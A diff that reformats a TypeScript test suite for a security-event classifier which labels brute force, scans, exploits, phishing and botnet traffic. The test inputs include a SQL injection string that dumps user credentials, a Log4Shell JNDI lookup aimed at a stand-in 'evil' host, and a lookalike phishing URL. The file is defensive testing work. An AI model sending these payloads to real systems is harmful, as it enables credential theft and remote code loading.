@@ -22,7 +22,11 @@ const rules = new RulesClassifier();
 
 describe('RulesClassifier on typical events', () => {
   const cases: [string, Partial<ClassifierInput>, string][] = [
-    ['ssh brute force on 22', { threatType: 'ssh_bruteforce', destinationPort: 22, protocol: 'tcp' }, 'BRUTEFORCE'],
+    [
+      'ssh brute force on 22',
+      { threatType: 'ssh_bruteforce', destinationPort: 22, protocol: 'tcp' },
+      'BRUTEFORCE',
+    ],
     [
       'failed passwords described',
       { threatType: 'auth', description: 'Failed password for root from 10.0.0.1', destinationPort: 22 },
@@ -32,13 +36,25 @@ describe('RulesClassifier on typical events', () => {
     ['nmap signature', { threatType: 'ET SCAN Nmap Scripting Engine User-Agent' }, 'SCAN'],
     [
       'SQL injection text',
-      { threatType: 'web_attack', description: "GET /?id=1' UNION SELECT user,pass FROM users--", destinationPort: 80 },
+      {
+        threatType: 'web_attack',
+        description: "GET /?id=1' UNION SELECT user,pass FROM users--",
+        destinationPort: 80,
+      },
       'EXPLOIT',
     ],
-    ['log4shell', { threatType: 'ids', description: '${jndi:ldap://evil/a} in header (CVE-2021-44228)' }, 'EXPLOIT'],
+    [
+      'log4shell',
+      { threatType: 'ids', description: '${jndi:ldap://evil/a} in header (CVE-2021-44228)' },
+      'EXPLOIT',
+    ],
     [
       'phishing URL',
-      { threatType: 'url_reputation', description: 'Phishing URL http://paypa1-login.example/verify', tags: ['phishing'] },
+      {
+        threatType: 'url_reputation',
+        description: 'Phishing URL http://paypa1-login.example/verify',
+        tags: ['phishing'],
+      },
       'PHISHING',
     ],
     ['DDoS flood', { threatType: 'SYN-Flood', protocol: 'tcp', destinationPort: 443, severity: 9 }, 'DDOS'],
@@ -47,7 +63,11 @@ describe('RulesClassifier on typical events', () => {
     ['malware download', { threatType: 'trojan', description: 'Emotet dropper fetched' }, 'MALWARE'],
     ['botnet C2', { threatType: 'botnet_c2', description: 'beacon every 60s' }, 'BOTNET'],
     ['tor exit', { threatType: 'tor_exit_node', destinationPort: 443 }, 'PROXY'],
-    ['crawler', { threatType: 'bad-bot', description: 'aggressive crawler ignoring robots.txt', protocol: 'http' }, 'CRAWLER'],
+    [
+      'crawler',
+      { threatType: 'bad-bot', description: 'aggressive crawler ignoring robots.txt', protocol: 'http' },
+      'CRAWLER',
+    ],
   ];
   it.each(cases)('%s', (_name, overrides, expected) => {
     const result = rules.classify(event(overrides));
@@ -89,7 +109,12 @@ describe('RulesClassifier scoring', () => {
   it('raises confidence when fields and ports agree', () => {
     const alone = rules.verdict(event({ threatType: 'bruteforce' }));
     const agreed = rules.verdict(
-      event({ threatType: 'bruteforce', description: 'failed password', destinationPort: 22, protocol: 'tcp' }),
+      event({
+        threatType: 'bruteforce',
+        description: 'failed password',
+        destinationPort: 22,
+        protocol: 'tcp',
+      }),
     );
     expect(agreed.confidence).toBeGreaterThan(alone.confidence);
   });
